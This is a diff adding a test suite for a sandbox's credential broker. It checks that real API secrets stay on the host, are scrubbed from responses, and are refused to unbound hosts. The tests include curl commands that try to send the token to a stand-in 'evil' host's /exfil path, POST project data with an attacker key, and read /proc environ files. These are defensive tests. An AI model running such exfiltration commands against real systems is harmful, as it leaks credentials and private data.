@@ -1,0 +1,190 @@
+/**
+ * Credential brokering and token verification (credentials.broker;
+ * src/network/broker.ts, credential-sources.ts, http-proxy.ts) attacked from
+ * inside real cordon with real clients against the world's TLS servers, as
+ * root and as an unprivileged user. The command holds a session token; the
+ * bound host gets the real value, in its header only, over TLS cordon
+ * verified; the real value does not come back in responses; a foreign key on
+ * a bound host (the approved-domain attack) and the token anywhere else are
+ * refused. Verdicts come from what the servers recorded.
+ */
+import { after, before, describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { chmodSync, chownSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { CLI, testUser } from '../../helpers/cordon.js';
+import { createWorld, worldSkipReason, type World, type WorldRecord } from '../../world/world.js';
+
+const skip = worldSkipReason();
+const T = { timeout: 60_000 };
+const user = testUser();
+const runners = [{ who: 'root', as: undefined }, ...(user ? [{ who: 'an unprivileged user', as: user }] : [])];
+/** The real credential, in cordon's environment only. */
+const REAL = 'sk-live-REAL0secret0value0that0must0stay0on0the0host';
+
+describe('brokered credentials', { skip }, () => {
+  let w: World;
+  let root: string;
+  before(async () => {
+    w = await createWorld();
+    root = realpathSync(mkdtempSync('/var/tmp/cordon-cred-'));
+    chmodSync(root, 0o755);
+    // A repository behind authentication, for git's Basic credentials (the world serves /private/ only to a request with a credential).
+    const work = join(root, 'git-work');
+    mkdirSync(work);
+    const g = (cwd: string, ...a: string[]) => {
+      const r = spawnSync('git', ['-c', 'user.email=t@example.invalid', '-c', 'user.name=t', '-c', 'init.defaultBranch=main', ...a], { cwd, encoding: 'utf8' });
+      assert.equal(r.status, 0, r.stderr);
+      return r.stdout;
+    };
+    g(work, 'init', '-q');
+    writeFileSync(join(work, 'README'), 'private\n');
+    g(work, 'add', 'README');
+    g(work, 'commit', '-qm', 'private commit');
+    g(root, 'clone', '-q', '--bare', work, join(w.filesDir, 'private.git'));
+    g(join(w.filesDir, 'private.git'), 'update-server-info');
+  });
+  after(async () => {
+    await w?.close();
+    if (root) rmSync(root, { recursive: true, force: true });
+  });
+
+  const requests = async (host: string, pred: (r: WorldRecord) => boolean = () => true) => { await w.settle(); return w.records(w.host(host)).filter((x) => x.event === 'request' && pred(x)); };
+
+  for (const { who, as } of runners) {
+    let n = 0;
+    /** Runs `script` under cordon: api's credential brokered (Bearer in Authorization unless `broker` says otherwise). */
+    const cordon = async (script: string, opts: { broker?: object; env?: Record<string, string>; files?: Record<string, string> } = {}) => {
+      const dir = join(root, `${who.replace(/\W+/g, '-')}-${n++}`);
+      const proj = join(dir, 'proj');
+      const home = join(dir, 'home');
+      mkdirSync(proj, { recursive: true });
+      mkdirSync(home, { recursive: true });
+      const api = w.host('api').fqdn;
+      const settings = {
+        network: { allowedDomains: [api, w.host('evil').fqdn], tlsTerminate: { extraCaCertPaths: [w.caCert] } },
+        credentials: { broker: [{ env: 'SVC_TOKEN', hosts: [api], header: 'authorization', scheme: 'Bearer', ...opts.broker }] },
+      };
+      const settingsFile = join(dir, 'settings.json');
+      writeFileSync(settingsFile, JSON.stringify(settings));
+      const audit = join(dir, 'audit.jsonl');
+      for (const [name, text] of Object.entries(opts.files ?? {})) writeFileSync(join(proj, name), text);
+      if (as) for (const p of [dir, proj, home, settingsFile, ...Object.keys(opts.files ?? {}).map((f) => join(proj, f))]) chownSync(p, as.uid, as.gid);
+      const argv = [process.execPath, CLI, '--settings', settingsFile, '--audit-log', audit, '--', '/bin/sh', '-c', script];
+      const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home, LANG: 'C.UTF-8', SVC_TOKEN: REAL, ...opts.env };
+      const r = await w.run(as ? ['runuser', '-u', as.name, '--', 'env', ...Object.entries(env).map(([k, v]) => `${k}=${v}`), ...argv] : argv, { cwd: proj, env, timeoutMs: 45_000 });
+      let log = '';
+      try { log = readFileSync(audit, 'utf8'); } catch { /* the run failed before */ }
+      return { ...r, log, events: log.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as { type: string; reason?: string; credentials?: string[]; via?: string }) };
+    };
+
+    describe(`as ${who}`, () => {
+      it('the command holds a token shaped like the credential; the bound host gets the real value in its header only', T, async () => {
+        const api = w.host('api');
+        w.clearRecords();
+        const r = await cordon([
+          'printf "token=%s\\n" "$SVC_TOKEN"',
+          'if grep -q "REAL0secret" /proc/self/environ /proc/1/environ /proc/1/cmdline 2>/dev/null || env | grep -q REAL0secret; then echo "real inside"; fi',
+          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/with-token`,
+        ].join('\n'));
+        const token = /^token=(\S+)$/m.exec(r.stdout)?.[1];
+        assert.ok(token, r.stdout + r.stderr);
+        assert.notEqual(token, REAL);
+        assert.ok(token.startsWith('sk-live-') && token.length === REAL.length, `shaped like the real one: ${token}`);
+        assert.doesNotMatch(r.stdout, /real inside/);
+        assert.match(r.stdout, /^200$/m, r.stderr);
+        const reqs = await requests('api');
+        assert.deepEqual(reqs.map((x) => [x.path, x.headers?.authorization]), [['/with-token', `Bearer ${REAL}`]]);
+        assert.ok(r.events.some((e) => e.type === 'net.allowed' && e.via === 'https' && e.credentials?.[0] === 'SVC_TOKEN'));
+        assert.ok(!r.log.includes(REAL), 'no event carries the real value');
+      });
+
+      it('the real value does not come back: responses that echo it (identity, chunked, gzip, deflate, br) carry the token; one cordon cannot open is not sent', T, async () => {
+        const api = w.host('api');
+        const r = await cordon([
+          'for e in identity chunked gzip deflate br; do',
+          `  curl -sS --compressed -H "Authorization: Bearer $SVC_TOKEN" "https://${api.fqdn}/echo?encoding=$e" > "out-$e"`,
+          '  if grep -q "REAL0secret" "out-$e"; then echo "$e: real"; elif grep -q "$SVC_TOKEN" "out-$e"; then echo "$e: token"; else echo "$e: neither"; cat "out-$e"; fi',
+          'done',
+          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" "https://${api.fqdn}/echo?encoding=zstd"`,
+        ].join('\n'));
+        assert.equal(r.stdout, 'identity: token\nchunked: token\ngzip: token\ndeflate: token\nbr: token\n502\n', r.stderr);
+        assert.ok(r.events.some((e) => e.type === 'net.refused' && e.reason === 'unscrubbable-response'));
+      });
+
+      it('the approved-domain attack: project data POSTed to the bound host with a foreign key, in any credential position, never leaves', T, async () => {
+        const api = w.host('api');
+        w.clearRecords();
+        const foreign = 'sk-attacker-0000000000000000000000000000';
+        const tries = [
+          `-H "Authorization: Bearer ${foreign}"`,
+          `-H "x-api-key: ${foreign}"`,
+          `-u "attacker:${foreign}"`,
+          `-H "Cookie: session=${foreign}"`,
+          `-H "Authorization: Bearer $SVC_TOKEN" -H "x-goog-api-key: ${foreign}"`,
+        ];
+        const r = await cordon([
+          ...tries.map((t) => `curl -sS -o /dev/null -w '%{http_code} ' ${t} --data-binary @data.txt https://${api.fqdn}/upload`),
+          `curl -sS -o /dev/null -w '%{http_code} ' --data-binary @data.txt "https://${api.fqdn}/upload?api_key=${foreign}"`,
+          'echo',
+        ].join('\n'), { files: { 'data.txt': 'the project\'s private data\n' } });
+        assert.equal(r.stdout, '403 403 403 403 403 403 \n', r.stderr);
+        assert.deepEqual(await requests('api'), [], 'the recording server received nothing');
+        assert.equal(r.events.filter((e) => e.type === 'request.refused' && e.reason === 'foreign-credential').length, 6, r.log);
+      });
+
+      it('the token is never put in anywhere else: a body, another header, another host, plain HTTP', T, async () => {
+        const api = w.host('api');
+        const evil = w.host('evil');
+        w.clearRecords();
+        const r = await cordon([
+          // A model that repeats its prompt: the token in the body reaches the host as the token.
+          `curl -sS -H "Authorization: Bearer $SVC_TOKEN" --data-binary "prompt with $SVC_TOKEN inside" https://${api.fqdn}/echo | grep -c "prompt with $SVC_TOKEN"`,
+          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "x-api-key: $SVC_TOKEN" https://${api.fqdn}/other-header`,
+          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" https://${evil.fqdn}/exfil`,
+          `curl -sS -o /dev/null -w '%{http_code}\\n' "https://${evil.fqdn}/exfil?t=$SVC_TOKEN"`,
+          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" http://${api.fqdn}/cleartext`,
+        ].join('\n'));
+        assert.equal(r.stdout, '1\n403\n403\n403\n403\n', r.stderr);
+        const reqs = await requests('api');
+        assert.deepEqual(reqs.map((x) => x.path), ['/echo'], 'only the first request reached the host');
+        assert.equal(reqs[0]!.headers?.authorization, `Bearer ${REAL}`);
+        assert.deepEqual(await requests('evil'), []);
+        const reasons = r.events.filter((e) => e.type === 'request.refused').map((e) => e.reason);
+        assert.deepEqual(reasons, ['foreign-credential', 'credential-to-unbound-host', 'credential-to-unbound-host', 'credential-in-cleartext']);
+      });
+
+      it('git over HTTPS with the token as its password (Basic): the server gets the real one, the clone works', T, async () => {
+        const api = w.host('api');
+        w.clearRecords();
+        const r = await cordon(`git clone -q "https://x-access-token:$SVC_TOKEN@${api.fqdn}/private/private.git" c && git -C c log -1 --format=%s`, {
+          broker: { scheme: 'Basic' },
+          env: { GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0' },
+        });
+        assert.equal(r.stdout, 'private commit\n', r.stderr);
+        const authed = (await requests('api')).filter((x) => x.headers?.authorization);
+        assert.ok(authed.length > 0);
+        for (const x of authed) assert.equal(Buffer.from(String(x.headers!.authorization).replace(/^Basic /, ''), 'base64').toString(), `x-access-token:${REAL}`);
+      });
+
+      it('a credential read from a file or a program on the host; a program that fails stops cordon without showing what it printed', T, async () => {
+        const api = w.host('api');
+        const secretFile = join(root, `${who.replace(/\W+/g, '-')}-secret`);
+        writeFileSync(secretFile, 'sk-file-0123456789abcdef0123456789abcdef\n', { mode: 0o600 });
+        if (as) chownSync(secretFile, as.uid, as.gid);
+        w.clearRecords();
+        const fromFile = await cordon(`curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/file`, { broker: { from: { file: secretFile } } });
+        assert.equal(fromFile.stdout, '200\n', fromFile.stderr);
+        const fromProgram = await cordon(`curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/program`, { broker: { from: { command: ['/bin/echo', 'sk-prog-0123456789abcdef0123456789abcdef'] } } });
+        assert.equal(fromProgram.stdout, '200\n', fromProgram.stderr);
+        assert.deepEqual((await requests('api')).map((x) => x.headers?.authorization), ['Bearer sk-file-0123456789abcdef0123456789abcdef', 'Bearer sk-prog-0123456789abcdef0123456789abcdef']);
+        const failing = await cordon('echo ran', { broker: { from: { command: ['/bin/sh', '-c', 'echo sk-leaked-in-output; exit 3'] } } });
+        assert.notEqual(failing.status, 0);
+        assert.doesNotMatch(failing.stdout, /ran/);
+        assert.match(failing.stderr, /credentials\.broker\[0\]\.from\.command: \/bin\/sh exited with 3; what it printed is not shown/);
+        assert.doesNotMatch(failing.stderr, /sk-leaked/);
+      });
+    });
+  }
+});
